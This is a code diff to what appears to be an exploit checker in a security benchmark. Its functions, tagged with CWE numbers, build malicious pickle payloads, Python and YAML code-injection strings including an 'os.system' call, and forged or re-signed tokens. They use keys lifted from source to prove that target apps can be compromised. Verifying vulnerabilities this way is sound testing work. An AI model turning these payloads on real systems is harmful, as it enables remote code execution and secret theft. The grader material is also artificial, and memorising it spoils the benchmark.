@@ -14,6 +14,8 @@ from weighbridge.tasks.oracle import App, Proof, exploit, mark, told, works
 from weighbridge.tasks.payloads import pickles, template, wrapping
 
 SECRET = "/srv/data/secret.txt"
+COMMON = {b"utf-8", b"utf8", b"ascii", b"latin-1", b"rb", b"wb", b"base64", b"hex"}
+"""Texts of many programs that are no keys of a document."""
 
 
 def seed(nonce: str) -> dict[str, bytes | None]:
@@ -69,12 +71,25 @@ def _rebuilt(layers: Iterable[wrapping.Layer], contents: Iterable[bytes]) -> Ite
                 continue
 
 
+def _attacks(app: App, layers: Iterable[wrapping.Layer]) -> Iterator[bytes]:
+    """Pickles where a pickle was (each ends with a full stop), code where there was text."""
+    for layer in layers:
+        if layer.content.endswith(b"."):
+            yield from _rebuilt([layer], pickles.planting(_hit(app)))
+        if _is_text(layer.content):
+            yield from _rebuilt([layer], _code(app))
+
+
+def _is_text(content: bytes) -> bool:
+    return not re.search(rb"[\x00-\x08\x0e-\x1f\x80-\xff]", content)
+
+
 def _code(app: App) -> list[bytes]:
     """Texts that run as code where a program takes them for its own: an expression, a value in a dictionary, lines of a
     module, or a YAML document with Python tags."""
     hit = _hit(app)
     builtin, alone = template.python_with_builtins(hit, SECRET), template.python_without_builtins(hit)
-    expressions = [builtin[0], builtin[2], builtin[6], *alone]
+    expressions = [*builtin[:6], builtin[10], *alone]
     texts = [*expressions, *("{'theme': " + one + "}" for one in expressions)]
     texts += [text for one in alone[:2] for text in template.disguised("{'theme': " + one + "}")]
     texts += [f"import os\nos.system('>{hit}')", f"settings = {{}}\n{builtin[0]}", f"theme = {builtin[0]}"]
@@ -90,19 +105,21 @@ def _unsigned(app: App) -> list[wrapping.Layer]:
 def exploit_pickle(app: App) -> Proof | None:
     attacks = list(pickles.planting(_hit(app)))
     plain = [base64.b64encode(attacks[1]), base64.urlsafe_b64encode(attacks[1]), attacks[1].hex().encode(), attacks[0]]
-    return _made_file(app, [*plain, *_rebuilt(_unsigned(app), attacks)], 502)
+    return _made_file(
+        app, [*plain, *_rebuilt((one for one in _unsigned(app) if one.content.endswith(b".")), attacks)], 502
+    )
 
 
 @exploit(cwe=502)
 def exploit_checksum(app: App) -> Proof | None:
     """The token carries a checksum without a key, which anybody can make again."""
     layers = [layer for layer in wrapping.peel(_valid(app)) if layer.key == b""]
-    return _made_file(app, _rebuilt(layers, [*pickles.planting(_hit(app)), *_code(app)]), 502)
+    return _made_file(app, _attacks(app, layers), 502)
 
 
 @exploit(cwe=95)
 def exploit_code(app: App) -> Proof | None:
-    return _made_file(app, _rebuilt(_unsigned(app), _code(app)), 95)
+    return _made_file(app, _rebuilt((one for one in _unsigned(app) if _is_text(one.content)), _code(app)), 95)
 
 
 @exploit(cwe=502)
@@ -111,7 +128,11 @@ def exploit_class_names(app: App) -> Proof | None:
     source = app.read("/srv/app/main.py") or b""
     if not re.search(rb"getattr|__import__|import_module|globals\(|locate\(", source):
         return None
-    names = [one.decode() for one in wrapping.literals(source) if re.fullmatch(rb"[\w/$@!-]{2,20}", one)][:11]
+    names = [
+        one.decode()
+        for one in wrapping.literals(source)
+        if one not in COMMON and re.fullmatch(rb"[\w/$@!-]{2,20}", one)
+    ][:9]
     command = f">{_hit(app)}"
     objects: list[dict[str, object]] = []
     for arguments in ([command], command, {"command": command}):
@@ -135,4 +156,4 @@ def exploit_key_in_source(app: App) -> Proof | None:
     """The token is signed, with a key that stands in the source."""
     keys = wrapping.literals(app.read("/srv/app/main.py") or b"")
     layers = [layer for layer in wrapping.peel(_valid(app), keys) if layer.key]
-    return _made_file(app, _rebuilt(layers, [*pickles.planting(_hit(app)), *_code(app)]), 798)
+    return _made_file(app, _attacks(app, layers), 798)
